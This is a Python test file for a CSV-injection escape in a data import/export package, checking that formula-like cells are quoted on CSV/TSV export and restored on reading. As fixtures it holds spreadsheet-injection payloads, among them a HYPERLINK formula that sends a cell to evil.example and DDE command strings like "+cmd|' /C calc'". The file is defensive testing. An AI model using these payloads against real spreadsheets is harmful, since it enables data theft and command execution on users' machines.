"""The CSV-injection escape (SPEC §12.7): exactly invertible, written by CSV/TSV exports and
rejects files, undone by the CSV/TSV reader only (JSON and XLSX carry text as text)."""

import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from custimport.io.formats import open_source
from custimport.io.formulas import escape, escaped_cells, needs_escape, unescape, unescape_cells
from custimport.io.writers import write_rows

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-A1", "'-A1"),
        ("=5", "'=5"),
        ("'=x", "''=x"),  # a value that starts with quotes before such a character: one more
        ("''@x", "'''@x"),
    ],
)
def test_cells_a_spreadsheet_would_run_get_a_leading_quote(value: str, cell: str) -> None:
    assert escape(value) == cell
    assert unescape(cell) == value


@pytest.mark.parametrize(
    "value",
    [
        "-5",
        "+5",
        "-0.25",
        "-1,5",
        "-1e5",
        "+49 30 1234567",
        "+1 (555) 0100",
        "+44-20-7946-0958",
        "plain",
        "O'Brien",
        "'quoted",  # a quote before an ordinary character is text already
        "a=b",
        "",
        "'",
    ],
)
def test_numbers_phones_and_ordinary_text_stay_as_they_are(value: str) -> None:
    assert escape(value) == value
    assert unescape(value) == value


def test_unescape_removes_a_quote_only_from_a_cell_the_escape_could_have_written() -> None:
    assert unescape("'-5") == "'-5"  # escape("-5") is "-5": this quote is the value's own
    assert unescape("'+49 30 1234567") == "'+49 30 1234567"
    assert unescape("'hello") == "'hello"
    assert unescape("'=x") == "=x"


ANY_TEXT = st.text(st.characters(codec="utf-8") | st.sampled_from("'=+-@\t\r0123456789 ("))


@settings(max_examples=500)
@given(ANY_TEXT)
def test_unescape_inverts_escape_for_every_string(value: str) -> None:
    assert unescape(escape(value)) == value
    assert escape(value) in (value, "'" + value)
    assert needs_escape(value) == (escape(value) != value)


@settings(max_examples=500)
@given(ANY_TEXT)
def test_a_cell_changes_on_reading_only_if_escaping_its_remainder_gives_it_back(cell: str) -> None:
    if unescape(cell) != cell:
        assert escape(unescape(cell)) == cell


def test_rows_are_escaped_and_unescaped_cell_by_cell_keeping_nulls() -> None:
    row = ["A-1", None, "=1+1", "-5", ""]
    assert escaped_cells(row) == ["A-1", None, "'=1+1", "-5", ""]
    clean = ("A-1", None, "x")
    assert escaped_cells(clean) is clean  # nothing to do: the row itself, no copy
    cells = ["'=1+1", "'-5", "''=x"]
    unescape_cells(cells)
    assert cells == ["=1+1", "'-5", "'=x"]


# --- writers and readers ----------------------------------------------------------------

COLUMNS = ("number", "name", "phone")
ROWS = [("A-1", HYPERLINK, "+49 30 1234567"), ("A-2", "'=already", "-5"), ("A-3", "@x", None)]


def written(fmt: str) -> bytes:
    out = io.BytesIO()
    write_rows(fmt, out, COLUMNS, ROWS)
    return out.getvalue()


def read(path: Path, *, fmt: str = "auto") -> list[list[str]]:
    with open_source(path, format=fmt) as source:
        return [source.info.header, *(row.cells for row in source)]


def test_a_csv_export_neutralises_formulas_but_not_numbers_or_phones() -> None:
    text = written("csv").decode()
    assert (
        text.splitlines()[1]
        == 'A-1,"\'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")",+49 30 1234567'
    )
    assert text.splitlines()[2] == "A-2,''=already,-5"
    assert text.splitlines()[3] == "A-3,'@x,"


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_the_csv_and_tsv_readers_give_back_exactly_what_was_exported(
    tmp_path: Path, fmt: str
) -> None:
    path = tmp_path / f"out.{fmt}"
    path.write_bytes(written(fmt))
    assert read(path) == [list(COLUMNS), *([v or "" for v in row] for row in ROWS)]


@pytest.mark.parametrize("fmt", ["json", "jsonl", "xlsx"])
def test_formats_that_carry_text_as_text_are_neither_escaped_nor_unescaped(
    tmp_path: Path, fmt: str
) -> None:
    assert b"'=HYPERLINK" not in written(fmt)
    path = tmp_path / f"in.{fmt}"
    out = io.BytesIO()
    write_rows(fmt, out, COLUMNS, [("'=x", "'=y", "'+1")])
    path.write_bytes(out.getvalue())
    assert read(path)[1] == ["'=x", "'=y", "'+1"]


def test_the_reader_unescapes_the_header_and_rows_on_every_path(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text(
        "number,'=name\n"
        "A-1,'=fast path\n"  # a clean row
        "A-2,'=too,many\n"  # wrong width: fails, and its cells go to the rejects file
        "A-3,'@last row without a line end",
        encoding="utf-8",
    )
    with open_source(path) as source:
        assert source.info.header == ["number", "=name"]
        rows = list(source)
    assert [row.cells for row in rows] == [
        ["A-1", "=fast path"],
        ["A-2", "=too", "many"],
        ["A-3", "@last row without a line end"],
    ]
    assert rows[1].error is not None


def test_the_cell_lists_of_a_csv_source_are_unescaped_like_its_rows(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text("account,is_primary\n'=A,true\nB,'@x\n", encoding="utf-8")
    with open_source(path) as source:
        assert source.cell_lists is not None
        assert list(source.cell_lists)[:2] == [["=A", "true"], ["B", "@x"]]


def test_a_file_after_a_nul_is_still_unescaped_on_the_careful_path(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(b"number,name\nA-1,bad\x00value\nA-2,'=after\n")
    with open_source(path) as source:
        rows = list(source)
    assert rows[0].error is not None
    assert rows[1].cells == ["A-2", "=after"]
